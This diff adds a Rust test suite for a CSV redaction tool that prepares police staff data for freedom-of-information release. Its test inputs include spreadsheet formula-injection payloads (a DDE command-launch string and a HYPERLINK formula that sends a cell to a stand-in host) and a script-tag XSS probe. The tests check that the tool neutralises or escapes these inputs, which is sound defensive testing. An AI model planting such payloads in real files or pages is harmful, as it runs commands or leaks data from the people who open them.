@@ -1,0 +1,703 @@
+//! Issue 6 §1 and issue 5 §4: the CSV writer's formula-injection
+//! neutralising, each redaction action, byte-for-byte preservation of
+//! untouched cells, and the round trip on every corpus file. Files are
+//! embedded, so the suite also runs in wasm (the CLI tests are native only).
+
+#[cfg(target_arch = "wasm32")]
+wasm_bindgen_test::wasm_bindgen_test_configure!(run_in_browser);
+
+#[allow(dead_code)]
+#[path = "corpus/manifest.rs"]
+mod manifest;
+
+use std::collections::BTreeMap;
+
+use foi_check::read::{Reader, Sink, Table};
+use foi_check::redact::{
+    is_direct, safe_copy, safe_name, Coarsening, ColumnAction, ColumnPolicy, ColumnRef, Policy,
+    Redactor, RowAction, RowPolicy, ROW_REMOVED,
+};
+use foi_check::report::{Kind, Reason, Report, RowFinding};
+use foi_check::write::{is_plain_number, needs_neutralising, neutralise, write_field, CsvWriter};
+use foi_check::{check_bytes, Options};
+
+/// Every record of a file by row number, all fields (blank lines absent).
+fn records(bytes: &[u8]) -> (BTreeMap<u64, Vec<String>>, u64) {
+    #[derive(Default)]
+    struct Raw(BTreeMap<u64, Vec<String>>);
+    impl Sink for Raw {
+        fn table_start(&mut self, _: &Table) {}
+        fn record(&mut self, _: Option<usize>, _: u64, _: &[&str]) {}
+        fn table_end(&mut self, _: usize, _: u64) {}
+        fn raw_record(&mut self, row: u64, fields: &[&str]) {
+            self.0
+                .insert(row, fields.iter().map(|f| f.to_string()).collect());
+        }
+    }
+    let mut raw = Raw::default();
+    let mut reader = Reader::new();
+    reader.push(bytes, &mut raw).expect("readable");
+    reader.finish(&mut raw).expect("readable");
+    (raw.0, reader.info().rows)
+}
+
+/// Redact `csv` with `policy` against `report`, pushing in chunks of `chunk` bytes.
+fn redact_with(csv: &[u8], policy: &Policy, report: &Report, chunk: usize) -> Vec<u8> {
+    let mut r = Redactor::new(policy, report);
+    let mut out = Vec::new();
+    for c in csv.chunks(chunk.max(1)) {
+        out.extend(r.push(c).expect("push"));
+    }
+    let (rest, _) = r.finish().expect("finish");
+    out.extend(rest);
+    out
+}
+
+/// The output as text lines without the BOM.
+fn lines(out: &[u8]) -> Vec<String> {
+    let text = String::from_utf8(out.to_vec()).expect("utf-8");
+    let text = text.strip_prefix('\u{feff}').expect("BOM first");
+    let mut v: Vec<String> = text.split("\r\n").map(str::to_string).collect();
+    assert_eq!(v.pop().as_deref(), Some(""), "ends with CRLF");
+    v
+}
+
+fn col(table: usize, index: usize, header: &str, action: ColumnAction) -> ColumnPolicy {
+    ColumnPolicy {
+        column: ColumnRef {
+            table,
+            index,
+            header: header.to_string(),
+        },
+        action,
+    }
+}
+
+fn keep_all() -> Policy {
+    Policy {
+        mask_matches: false,
+        ..Policy::default()
+    }
+}
+
+/// A finding as the detector gives one (the tests add it to a real report,
+/// so the redactor is tested whatever the detector finds).
+fn finding(
+    row: u64,
+    kind: Kind,
+    table: Option<usize>,
+    reasons: &[(&str, &str, &str)],
+) -> RowFinding {
+    RowFinding {
+        row,
+        kind,
+        table,
+        reasons: reasons
+            .iter()
+            .map(|(rule, column, text)| Reason {
+                rule: rule.to_string(),
+                column: column.to_string(),
+                text: text.to_string(),
+                why: String::new(),
+            })
+            .collect(),
+    }
+}
+
+#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+#[cfg_attr(not(target_arch = "wasm32"), test)]
+fn formula_injection_is_neutralised() {
+    // (cell, written field)
+    let cases: &[(&str, &str)] = &[
+        ("=1+1", "\"'=1+1\""),
+        ("+1+1", "\"'+1+1\""),
+        ("-1+1", "\"'-1+1\""),
+        ("@SUM(A1:A2)", "\"'@SUM(A1:A2)\""),
+        ("\tx", "\"'\tx\""),
+        ("\rx", "\"'\rx\""),
+        (
+            "=HYPERLINK(\"http://x?\"&A1,\"a\")",
+            "\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"a\"\")\"",
+        ),
+        ("+44 20 7946 0000", "\"'+44 20 7946 0000\""),
+        ("-A1", "\"'-A1\""),
+        ("=", "\"'=\""),
+        // Numbers and dashes are data.
+        ("-5", "-5"),
+        ("+3.5", "+3.5"),
+        ("-1,234.50", "\"-1,234.50\""),
+        ("-12%", "-12%"),
+        ("-.5", "-.5"),
+        ("-", "-"),
+        ("--", "--"),
+        // Not at the start: left alone.
+        ("a=b", "a=b"),
+        (" =1+1", " =1+1"),
+        ("'=1+1", "'=1+1"),
+        ("", ""),
+        ("O'Neill", "O'Neill"),
+        ("say \"hi\"", "\"say \"\"hi\"\"\""),
+        ("two\nlines", "\"two\nlines\""),
+    ];
+    for (cell, want) in cases {
+        let mut out = Vec::new();
+        write_field(&mut out, cell, b',');
+        assert_eq!(String::from_utf8(out).unwrap(), *want, "cell {cell:?}");
+        // Idempotent: a neutralised cell is not neutralised again.
+        let once = neutralise(cell);
+        assert!(!needs_neutralising(&once), "{cell:?}");
+    }
+    for (n, want) in [
+        ("-5", true),
+        ("5", true),
+        ("-1,234", true),
+        ("-1234,5", false),
+        ("-1e5", false),
+        ("-", false),
+        ("-1.", false),
+        ("+-1", false),
+        ("-1 ", false),
+    ] {
+        assert_eq!(is_plain_number(n), want, "{n:?}");
+    }
+}
+
+#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+#[cfg_attr(not(target_arch = "wasm32"), test)]
+fn formulas_in_headers_quoted_cells_and_titles_are_neutralised() {
+    // A formula in a title line, a header and a quoted data cell; a
+    // semicolon file keeps its delimiter.
+    let csv = "=cmd|' /C calc'!A0\nName;@Note;Ref\n\"=1+1\";x;-3\n";
+    let out = redact_with(
+        csv.as_bytes(),
+        &keep_all(),
+        &check_bytes("f.csv", csv.as_bytes(), &Options::default()),
+        7,
+    );
+    assert_eq!(
+        lines(&out),
+        vec![
+            "\"'=cmd|' /C calc'!A0\"",
+            "Name;\"'@Note\";Ref",
+            "\"'=1+1\";x;-3"
+        ]
+    );
+    let mut w = CsvWriter::new(b'\t');
+    w.record(&["a\tb", "+x"]);
+    assert_eq!(w.take(), b"\xEF\xBB\xBF\"a\tb\"\t\"'+x\"\r\n");
+}
+
+#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+#[cfg_attr(not(target_arch = "wasm32"), test)]
+fn untouched_cells_keep_their_text_in_any_chunking() {
+    // Quoted fields with delimiters, quotes and line breaks; accents; blank
+    // lines; a ragged row; a row of empty cells; no final line break.
+    let csv = "Title line\n\nSurname,Note,Amount\r\n\"SMITH, J\",\"He said \"\"no\"\"\nthen left\",£1,234\n\n,,\nÉLODIE,café,12\nX,Y\n,,,\nlast,row,1";
+    let report = check_bytes("t.csv", csv.as_bytes(), &Options::default());
+    let (before, rows) = records(csv.as_bytes());
+    for chunk in [1, 2, 3, 5, 64, 1 << 20] {
+        let out = redact_with(csv.as_bytes(), &keep_all(), &report, chunk);
+        let (after, rows_after) = records(&out);
+        assert_eq!(rows_after, rows, "chunk {chunk}");
+        assert_eq!(after, before, "chunk {chunk}");
+    }
+    // Windows-1252 and UTF-16 files: the same text, written as UTF-8.
+    let w1252: &[u8] = b"Name,Place\nJos\xe9,Caf\xe9 \xa31\n";
+    let out = redact_with(
+        w1252,
+        &keep_all(),
+        &check_bytes("w.csv", w1252, &Options::default()),
+        3,
+    );
+    assert_eq!(lines(&out), vec!["Name,Place", "José,Café £1"]);
+    let mut utf16: Vec<u8> = vec![0xFF, 0xFE];
+    for u in "Name\tPlace\r\nZoë\tNewry\r\n".encode_utf16() {
+        utf16.extend(u.to_le_bytes());
+    }
+    let out = redact_with(
+        &utf16,
+        &keep_all(),
+        &check_bytes("u.csv", &utf16, &Options::default()),
+        5,
+    );
+    assert_eq!(lines(&out), vec!["Name\tPlace", "Zoë\tNewry"]);
+}
+
+#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+#[cfg_attr(not(target_arch = "wasm32"), test)]
+fn each_redaction_action() {
+    let csv = "Staff list\nSurname,Collar,Rank,Joined,Age,Station,Notes\nMORGAN,1234,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9\n,,Sergeant,2004,51,Newry,\nKAUR,5678,Inspector,2011,45,Unknown St,\n";
+    let mut report = check_bytes("s.csv", csv.as_bytes(), &Options::default());
+    report.rows = vec![finding(
+        3,
+        Kind::Staff,
+        Some(0),
+        &[
+            ("name.surname", "Surname", "MORGAN"),
+            ("text.rank_name", "Notes", "Sgt. O'Neill"),
+            ("rank.police", "Rank", "Constable"),
+        ],
+    )];
+    let mut profile = foi_check::profile::Profile::default();
+    profile.stations.push(foi_check::profile::Station {
+        name: "Lisburn".into(),
+        district: "Lisburn & Castlereagh".into(),
+    });
+    profile.stations.push(foi_check::profile::Station {
+        name: "Newry".into(),
+        district: "Newry, Mourne & Down".into(),
+    });
+    report.settings.profile = Some(profile);
+    let mask = |t: &str| ColumnAction::Mask {
+        text: t.to_string(),
+    };
+    // (what, policy, expected lines)
+    let cases: Vec<(&str, Policy, Vec<&str>)> = vec![
+        (
+            "mask a column: empty cells stay empty, header kept",
+            Policy {
+                columns: vec![col(0, 0, "Surname", mask("[name removed]"))],
+                ..keep_all()
+            },
+            vec![
+                "Staff list",
+                "Surname,Collar,Rank,Joined,Age,Station,Notes",
+                "[name removed],1234,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9",
+                ",,Sergeant,2004,51,Newry,",
+                "[name removed],5678,Inspector,2011,45,Unknown St,",
+            ],
+        ),
+        (
+            "remove a column: header and data, not the title",
+            Policy {
+                columns: vec![col(0, 1, "Collar", ColumnAction::Remove)],
+                ..keep_all()
+            },
+            vec![
+                "Staff list",
+                "Surname,Rank,Joined,Age,Station,Notes",
+                "MORGAN,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9",
+                ",Sergeant,2004,51,Newry,",
+                "KAUR,Inspector,2011,45,Unknown St,",
+            ],
+        ),
+        (
+            "coarsen years, ages and stations (an unknown station is kept)",
+            Policy {
+                columns: vec![
+                    col(
+                        0,
+                        3,
+                        "Joined",
+                        ColumnAction::Coarsen {
+                            by: Coarsening::Years,
+                        },
+                    ),
+                    col(
+                        0,
+                        4,
+                        "Age",
+                        ColumnAction::Coarsen {
+                            by: Coarsening::Age,
+                        },
+                    ),
+                    col(
+                        0,
+                        5,
+                        "Station",
+                        ColumnAction::Coarsen {
+                            by: Coarsening::District,
+                        },
+                    ),
+                ],
+                ..keep_all()
+            },
+            vec![
+                "Staff list",
+                "Surname,Collar,Rank,Joined,Age,Station,Notes",
+                "MORGAN,1234,Constable,1990s,30-39,Lisburn & Castlereagh,Seen by Sgt. O'Neill at 9",
+                ",,Sergeant,2000s,50-59,\"Newry, Mourne & Down\",",
+                "KAUR,5678,Inspector,2010s,40-49,Unknown St,",
+            ],
+        ),
+        (
+            "remove a row: same row number, first cell says so",
+            Policy {
+                rows: vec![RowPolicy {
+                    row: 3,
+                    action: RowAction::Remove,
+                }],
+                ..keep_all()
+            },
+            vec![
+                "Staff list",
+                "Surname,Collar,Rank,Joined,Age,Station,Notes",
+                "[row removed],,,,,,",
+                ",,Sergeant,2004,51,Newry,",
+                "KAUR,5678,Inspector,2011,45,Unknown St,",
+            ],
+        ),
+        (
+            "mask matches in place: the name in prose and the surname; not the rank",
+            Policy {
+                mask_matches: true,
+                ..Policy::default()
+            },
+            vec![
+                "Staff list",
+                "Surname,Collar,Rank,Joined,Age,Station,Notes",
+                "[name removed],1234,Constable,1998,34,Lisburn,Seen by [name removed] at 9",
+                ",,Sergeant,2004,51,Newry,",
+                "KAUR,5678,Inspector,2011,45,Unknown St,",
+            ],
+        ),
+        (
+            "a policy reused on a new version: the column is found by its header",
+            Policy {
+                columns: vec![col(0, 6, "Surname", mask("[name removed]"))],
+                ..keep_all()
+            },
+            vec![
+                "Staff list",
+                "Surname,Collar,Rank,Joined,Age,Station,Notes",
+                "[name removed],1234,Constable,1998,34,Lisburn,Seen by Sgt. O'Neill at 9",
+                ",,Sergeant,2004,51,Newry,",
+                "[name removed],5678,Inspector,2011,45,Unknown St,",
+            ],
+        ),
+    ];
+    for (what, policy, want) in cases {
+        let out = redact_with(csv.as_bytes(), &policy, &report, 11);
+        assert_eq!(lines(&out), want, "{what}");
+        // The policy survives JSON (saved by the page, loaded by the CLI).
+        let json = serde_json::to_string(&policy).unwrap();
+        assert_eq!(Policy::from_json(&json).unwrap(), policy, "{what}");
+    }
+}
+
+#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+#[cfg_attr(not(target_arch = "wasm32"), test)]
+fn small_counts_are_suppressed_with_secondary_suppression() {
+    // (table, marker, expected lines, after the title and header)
+    let cases: &[(&str, &str, &[&str])] = &[
+        (
+            "Rank,Lisburn,Newry,Total\nConstable,40,22,62\nSergeant,6,2,8\nInspector,5,7,12\nTotal,51,31,82\n",
+            "*",
+            // Newry 2 hidden: its row needs a second cell (Lisburn 6), then both
+            // columns do (the Inspector row holds the smallest).
+            &["Constable,40,22,62", "Sergeant,*,*,8", "Inspector,*,*,12", "Total,51,31,82"],
+        ),
+        (
+            "Rank,Lisburn,Newry\nConstable,40,22\nSergeant,6,3\n",
+            "<5",
+            // No totals: nothing to give the cell away.
+            &["Constable,40,22", "Sergeant,6,<5"],
+        ),
+    ];
+    // Two stacked tables of counts: each gets its secondary suppression.
+    let stacked = "Officers\nRank,Lisburn,Newry,Total\nConstable,40,22,62\nSergeant,6,2,8\n\nStaff\nGrade,Lisburn,Newry,Total\nAnalyst,30,3,33\nClerk,9,8,17\n";
+    let copy = safe_copy(
+        "s.csv",
+        stacked.as_bytes(),
+        &Policy::default(),
+        &Options::default(),
+    )
+    .unwrap();
+    let got = lines(&copy.bytes);
+    assert_eq!(got[3], "Sergeant,*,*,8");
+    assert_eq!(got[7], "Analyst,*,*,33", "{got:?}");
+    assert_eq!(got.len(), 9);
+    for (table, marker, want) in cases {
+        let csv = format!("Officers\n{table}");
+        let policy = Policy {
+            small_counts: foi_check::redact::SmallCounts {
+                marker: marker.to_string(),
+                ..Default::default()
+            },
+            ..Policy::default()
+        };
+        let copy = safe_copy("c.csv", csv.as_bytes(), &policy, &Options::default()).unwrap();
+        let got = lines(&copy.bytes);
+        assert_eq!(&got[2..], *want, "{table}");
+        assert!(copy.report_before.summary.small_count > 0, "{table}");
+        assert!(
+            !copy.still_identifies(),
+            "{table}: {:?}",
+            copy.report_after.rows
+        );
+    }
+}
+
+#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+#[cfg_attr(not(target_arch = "wasm32"), test)]
+fn default_policy_masks_identifying_columns() {
+    let csv = "Surname,Initial,Rank\nMORGAN,J,Inspector\n";
+    let mut report = check_bytes("s.csv", csv.as_bytes(), &Options::default());
+    // The detector's column classes (whatever it finds today).
+    report.columns = vec![
+        foi_check::ColumnReport {
+            table: 0,
+            index: 0,
+            name: "Surname".into(),
+            class: foi_check::ColumnClass::Surname,
+            confidence: 1.0,
+            evidence: String::new(),
+            identifying: true,
+        },
+        foi_check::ColumnReport {
+            table: 0,
+            index: 2,
+            name: "Rank".into(),
+            class: foi_check::ColumnClass::RankGrade,
+            confidence: 1.0,
+            evidence: String::new(),
+            identifying: false,
+        },
+    ];
+    let policy = Policy::default_for(&report);
+    assert_eq!(
+        policy.columns,
+        vec![col(
+            0,
+            0,
+            "Surname",
+            ColumnAction::Mask {
+                text: "[name removed]".into()
+            }
+        )]
+    );
+    assert!(policy.mask_matches && policy.small_counts.suppress && policy.small_counts.secondary);
+    assert_eq!(policy.small_counts.threshold, 5);
+    assert!(policy
+        .describe()
+        .iter()
+        .any(|d| d.contains("\"Surname\"") && d.contains("[name removed]")));
+    assert_eq!(safe_name("dir/staff.csv"), "dir/staff-safe.csv");
+    assert_eq!(safe_name("staff"), "staff-safe.csv");
+}
+
+/// The round trip of issue 6 §4 on every corpus file: redact with the
+/// default policy, check again; no row of a direct kind remains, the row
+/// count is unchanged, and every cell that differs is one the policy
+/// changed (an acted-on column, a flagged row, a secondary suppression) or
+/// one neutralised against formulas.
+#[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
+#[cfg_attr(not(target_arch = "wasm32"), test)]
+fn round_trip_on_every_corpus_file() {
+    for f in manifest::CORPUS {
+        let options = Options::default();
+        let report = check_bytes(f.name, f.bytes, &options);
+        let policy = Policy::default_for(&report);
+        let copy = safe_copy(f.name, f.bytes, &policy, &options).expect(f.name);
+        let after = &copy.report_after;
+        assert_eq!(
+            after.rows_checked, report.rows_checked,
+            "{}: row count",
+            f.name
+        );
+        assert_eq!(after.rows_checked, f.records, "{}", f.name);
+        assert!(after.complete, "{}", f.name);
+        let left: Vec<u64> = after
+            .rows
+            .iter()
+            .filter(|r| is_direct(r.kind))
+            .map(|r| r.row)
+            .collect();
+        assert!(
+            left.is_empty(),
+            "{}: rows still identifying after redaction: {left:?}",
+            f.name
+        );
+
+        let (before, _) = records(f.bytes);
+        let (redacted, _) = records(&copy.bytes);
+        let flagged: std::collections::HashSet<u64> = report.rows.iter().map(|r| r.row).collect();
+        let acted = |table: usize, j: usize| {
+            policy.columns.iter().any(|c| {
+                c.column.table == table && c.column.index == j && c.action != ColumnAction::Keep
+            })
+        };
+        let in_table = |row: u64| {
+            report
+                .tables
+                .iter()
+                .enumerate()
+                .filter(move |(_, t)| t.header_row < row && row <= t.last_row)
+                .map(|(i, _)| i)
+        };
+        assert_eq!(
+            before.keys().collect::<Vec<_>>(),
+            redacted.keys().collect::<Vec<_>>(),
+            "{}",
+            f.name
+        );
+        for (row, cells) in &before {
+            let out = &redacted[row];
+            assert_eq!(cells.len(), out.len(), "{} row {row}: width", f.name);
+            for (j, (a, b)) in cells.iter().zip(out).enumerate() {
+                if a == b {
+                    continue;
+                }
+                let neutralised = *b == format!("'{a}");
+                let by_column = in_table(*row).any(|t| acted(t, j));
+                let by_row = flagged.contains(row) || *b == ROW_REMOVED;
+                let secondary =
+                    *b == policy.small_counts.marker && copy.outcome.secondary_suppressed > 0;
+                assert!(
+                    neutralised || by_column || by_row || secondary,
+                    "{} row {row} column {j}: {a:?} became {b:?} though nothing asked for it",
+                    f.name
+                );
+            }
+        }
+    }
+}
+
+#[cfg(not(target_arch = "wasm32"))]
+mod cli {
+    use std::path::PathBuf;
+    use std::process::Command;
+
+    fn dir(name: &str) -> PathBuf {
+        let d =
+            std::env::temp_dir().join(format!("foi-check-redact-{}-{name}", std::process::id()));
+        std::fs::create_dir_all(&d).unwrap();
+        d
+    }
+
+    fn run(args: &[&str]) -> (i32, String, String) {
+        let o = Command::new(env!("CARGO_BIN_EXE_foi-check"))
+            .args(args)
+            .output()
+            .unwrap();
+        (
+            o.status.code().unwrap_or(-1),
+            String::from_utf8_lossy(&o.stdout).into_owned(),
+            String::from_utf8_lossy(&o.stderr).into_owned(),
+        )
+    }
+
+    #[test]
+    fn redact_writes_a_safe_copy_and_never_the_original() {
+        let d = dir("cli");
+        let input = d.join("counts.csv");
+        let original = "Officers\nRank,Lisburn,Newry,Total\nConstable,40,22,62\nSergeant,6,2,8\nTotal,46,24,70\n";
+        std::fs::write(&input, original).unwrap();
+        let out = d.join("safe.csv");
+        let record = d.join("record.html");
+        let (code, stdout, stderr) = run(&[
+            "redact",
+            input.to_str().unwrap(),
+            "--out",
+            out.to_str().unwrap(),
+            "--record",
+            record.to_str().unwrap(),
+            "--reference",
+            "FOI/1",
+        ]);
+        assert_eq!(code, 0, "{stdout}{stderr}");
+        assert!(
+            stdout.contains("before:") && stdout.contains("after"),
+            "{stdout}"
+        );
+        let safe = std::fs::read(&out).unwrap();
+        assert!(safe.starts_with(b"\xEF\xBB\xBF"));
+        assert!(String::from_utf8_lossy(&safe).contains("Sergeant,*,*,8"));
+        assert_eq!(std::fs::read_to_string(&input).unwrap(), original);
+        let html = std::fs::read_to_string(&record).unwrap();
+        assert!(
+            html.contains(&foi_check::record::sha256_hex(&safe)),
+            "safe copy hash in the record"
+        );
+        assert!(html.contains(&foi_check::record::sha256_hex(original.as_bytes())));
+        assert!(html.contains("FOI/1"));
+
+        // --out equal to the input is refused, and the input is untouched.
+        let (code, _, stderr) = run(&[
+            "redact",
+            input.to_str().unwrap(),
+            "--out",
+            input.to_str().unwrap(),
+        ]);
+        assert_eq!(code, 2);
+        assert!(stderr.contains("never changed"), "{stderr}");
+        assert_eq!(std::fs::read_to_string(&input).unwrap(), original);
+
+        // A policy file that keeps the small counts: the re-check still finds them: exit 1.
+        let policy = d.join("policy.json");
+        std::fs::write(
+            &policy,
+            r#"{"version": 1, "small_counts": {"suppress": false}}"#,
+        )
+        .unwrap();
+        let (code, stdout, _) = run(&[
+            "redact",
+            input.to_str().unwrap(),
+            "--out",
+            out.to_str().unwrap(),
+            "--policy",
+            policy.to_str().unwrap(),
+        ]);
+        assert_eq!(code, 1, "{stdout}");
+        // A bad policy is an error.
+        std::fs::write(&policy, r#"{"version": 9}"#).unwrap();
+        let (code, _, stderr) = run(&[
+            "redact",
+            input.to_str().unwrap(),
+            "--out",
+            out.to_str().unwrap(),
+            "--policy",
+            policy.to_str().unwrap(),
+        ]);
+        assert_eq!(code, 2, "{stderr}");
+        let _ = std::fs::remove_dir_all(&d);
+    }
+
+    #[test]
+    fn check_writes_one_record_for_several_files() {
+        let d = dir("record");
+        let a = d.join("a.csv");
+        let b = d.join("b.csv");
+        std::fs::write(&a, "Rank,Lisburn\nConstable,40\nSergeant,2\n").unwrap();
+        std::fs::write(&b, "Ref,Note\n1,<script>alert(1)</script>\n").unwrap();
+        let json = d.join("record.json");
+        let (code, _, stderr) = run(&[
+            "check",
+            a.to_str().unwrap(),
+            b.to_str().unwrap(),
+            "--record",
+            json.to_str().unwrap(),
+            "--no-values",
+            "--note",
+            "checked by <b>me</b>",
+        ]);
+        assert!(code == 0 || code == 1, "{stderr}");
+        let rec: foi_check::record::Record =
+            serde_json::from_str(&std::fs::read_to_string(&json).unwrap()).unwrap();
+        assert_eq!(rec.files.len(), 2);
+        assert!(!rec.values_included);
+        assert_eq!(
+            rec.files[0].sha256,
+            foi_check::record::sha256_hex(&std::fs::read(&a).unwrap())
+        );
+        assert!(rec
+            .files
+            .iter()
+            .flat_map(|f| &f.findings)
+            .flat_map(|f| &f.reasons)
+            .all(|r| r.text.is_none() && r.why.is_none()));
+        let html = d.join("record.html");
+        let (_, _, stderr) = run(&[
+            "check",
+            b.to_str().unwrap(),
+            "--record",
+            html.to_str().unwrap(),
+            "--note",
+            "checked by <b>me</b>",
+        ]);
+        let page = std::fs::read_to_string(&html).unwrap_or_else(|_| panic!("{stderr}"));
+        assert!(page.contains("checked by &lt;b&gt;me&lt;/b&gt;"));
+        assert!(page.contains("default-src 'none'"));
+        let _ = std::fs::remove_dir_all(&d);
+    }
+}
